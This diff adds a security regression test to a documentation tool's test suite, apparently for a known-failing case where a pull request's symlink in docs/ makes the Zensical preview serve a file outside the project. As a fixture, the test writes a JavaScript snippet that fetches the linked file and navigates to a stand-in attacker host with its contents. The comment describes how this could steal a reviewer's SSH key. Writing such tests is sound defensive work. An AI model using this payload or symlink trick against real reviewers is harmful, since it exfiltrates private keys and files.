@@ -14,6 +14,7 @@ import os
 import subprocess
 import sys
 import time
+import urllib.request
 from collections.abc import Callable
 from pathlib import Path
 
@@ -262,3 +263,60 @@ def test_r13_3_a_template_arriving_during_a_mkdocs_build_is_not_rendered(
                         marker, 60)
     assert "ongekeurde-code" in _cli("check", "--root", str(project), cwd=tmp_path).stdout
     assert not marker.exists(), f"de pull request voerde code uit (404.html):\n{said[-3000:]}"
+
+
+# -- R13-4 (high): the Zensical preview serves a file outside the project to a script of the
+# pull request -----------------------------------------------------------------------------
+# Zensical copies a static file of docs/ into the site as it sees it, following a symbolic
+# link (R4-1 made `check` and `build` refuse links in docs/, but the preview runs no check
+# before Zensical copies; R8-3). Its pages carry `script-src 'self'`, so a script the pull
+# request adds to docs/ runs, reads the copied file (`connect-src 'self'`) and sends it away
+# by navigating (`location = "https://…/?" + text`; the CSP cannot stop a navigation). Zensical's
+# live reload opens the changed page again in the reviewer's browser by itself. So one branch
+# switch under `kennisbank serve --engine zensical` with the preview open hands the pull
+# request any file the reviewer can read (`docs/sleutel.txt -> ../../.ssh/id_ed25519`). The
+# test stops at the first half: the file's bytes served on the preview's address.
+
+@pytest.mark.xfail(strict=True, reason="R13-4: Zensical preview serves a docs/ link's target")
+def test_r13_4_a_docs_link_arriving_in_the_zensical_preview_is_not_served(
+        project: Path, tmp_path: Path) -> None:  # noqa: F811
+    secret = tmp_path / "geheim"
+    secret.write_text("GEHEIM-1f0c\n", encoding="utf-8")
+    docs = project / "docs"
+    docs.mkdir(exist_ok=True)
+    (docs / "welkom.md").write_text("# Welkom\n", encoding="utf-8")
+    run_git(project, "init", "-q", "-b", "main")
+    run_git(project, "add", "-A")
+    run_git(project, "commit", "-q", "-m", "begin")
+    run_git(project, "checkout", "-q", "-b", "pull-request")
+    (docs / "sleutel.txt").symlink_to(os.path.relpath(secret, docs))
+    (docs / "lek.js").write_text(
+        'fetch("/sleutel.txt").then(r => r.text()).then(t => {\n'
+        '  location = "https://aanvaller.example/?" + encodeURIComponent(t) })\n',
+        encoding="utf-8")
+    (docs / "welkom.md").write_text('# Welkom\n\n<script src="../lek.js"></script>\n',
+                                    encoding="utf-8")
+    run_git(project, "add", "-A")
+    run_git(project, "commit", "-q", "-m", "een bijdrage")
+    assert _cli("check", "--root", str(project), cwd=tmp_path).returncode == 1
+    run_git(project, "checkout", "-q", "main")
+    port = free_port()
+    served: list[bytes] = []
+    leaked = tmp_path / "GELEKT"
+
+    def switch() -> None:
+        run_git(project, "checkout", "-q", "pull-request")
+        deadline = time.monotonic() + 20
+        while time.monotonic() < deadline and not served:
+            try:
+                with urllib.request.urlopen(  # noqa: S310 (our own loopback preview)
+                        f"http://127.0.0.1:{port}/sleutel.txt", timeout=5) as answer:
+                    served.append(answer.read())
+            except OSError:
+                time.sleep(0.3)
+        if served and b"GEHEIM-1f0c" in served[0]:
+            leaked.touch()
+
+    said = _serve_until(project, tmp_path, "zensical", (b"No issues found",), switch,
+                        leaked, 1, port=port)
+    assert not leaked.exists(), f"een bestand buiten het project geserveerd:\n{said[-2000:]}"
